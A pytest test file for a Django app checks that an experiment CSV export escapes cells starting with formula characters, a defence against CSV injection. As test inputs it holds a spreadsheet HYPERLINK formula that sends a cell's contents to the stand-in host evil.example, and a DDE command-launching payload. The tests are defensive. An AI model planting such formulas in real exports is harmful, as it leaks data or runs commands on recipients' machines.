"""The experiment CSV cannot carry a formula (issue 20, SPEC 7, OWASP "CSV Injection"): every cell
that begins with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from notifications.dashboard import CSV_FORMULA_STARTS, csv_cell_safe, results_csv
from notifications.experiments import ArmResult, Comparison, CurvePoint, Interval, Rate, Results
from notifications.services import exposures_record
from tests.factories import ProductFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'
SINCE = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def _results(*, segment: str, arm: str, lift: float | None = None) -> Results:
    counts = Rate(visitors=40, conversions=3)
    comparison = Comparison(
        control="holdout",
        absolute=lift,
        absolute_interval=None if lift is None else Interval(lift - 0.01, lift + 0.01),
        relative=lift,
        relative_interval=None,
        needed_total=None,
    )
    return Results(
        site_id=1,
        since=SINCE,
        until=SINCE + dt.timedelta(days=7),
        window_h=24,
        holdout_pct=10,
        minimum_lift_pct=10,
        exposures=40,
        conversions=3,
        arms=[ArmResult(segment=segment, arm=arm, counts=counts, shown_share=None, comparisons=[comparison])],
        curve=[CurvePoint(segment=segment, bin=0, counts=counts)],
    )


@pytest.mark.django_db
def test_a_formula_segment_name_comes_out_as_text_from_the_admin(superuser_client):
    client = superuser_client
    product = ProductFactory()
    at = timezone.now() - dt.timedelta(hours=1)
    exposures_record(
        [
            {
                "site_id": product.site_id,
                "product_id": product.pk,
                "visitor_hash": f"{n:032x}",
                "segment": HYPERLINK,
                "arm": "moderate",
                "policy_version": "v",
                "started_at": at,
                "ended_at": at + dt.timedelta(seconds=30),
                "outcome": "shown",
                "reason": "",
                "toasts": 1,
                "intensity": 12,
            }
            for n in range(5)
        ]
    )
    response = client.get(reverse("admin:candor_experiment_csv", args=[product.site_id]) + "?days=7")
    assert response.status_code == 200
    rows = _rows(response.content.decode())
    segments = {row[3] for row in rows[1:]}
    assert "'" + HYPERLINK in segments
    assert HYPERLINK not in segments


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r", "="])
def test_a_segment_name_beginning_with_a_formula_character_is_prefixed(start):
    name = f"{start}cmd|' /C calc'!A0"
    rows = _rows(results_csv(_results(segment=name, arm=f"{start}arm")))
    arm_row = next(row for row in rows if row[2] == "arm")
    assert (arm_row[3], arm_row[4]) == ("'" + name, f"'{start}arm")


def test_negative_numbers_carry_the_prefix_too():
    rows = _rows(results_csv(_results(segment="Everyone", arm="cap 50", lift=-0.012)))
    arm_row = next(row for row in rows if row[2] == "arm")
    assert arm_row[11] == "'-0.012000"
    assert float(arm_row[11].lstrip("'")) == -0.012
    assert arm_row[3:5] == ["Everyone", "cap 50"]  # ordinary text is untouched


def test_the_cell_rule():
    assert csv_cell_safe(None) == ""
    assert csv_cell_safe(-3) == "'-3"
    assert csv_cell_safe("a=b") == "a=b"
    assert csv_cell_safe("'=already") == "'=already"


@settings(deadline=None, max_examples=200)
@given(
    segment=st.text(max_size=40),
    arm=st.text(max_size=40),
    lift=st.none() | st.floats(min_value=-1, max_value=1, allow_nan=False),
)
def test_no_cell_of_the_csv_begins_like_a_formula(segment, arm, lift):
    for row in _rows(results_csv(_results(segment=segment, arm=arm, lift=lift))):
        for cell in row:
            assert not cell.startswith(CSV_FORMULA_STARTS), (cell, row)
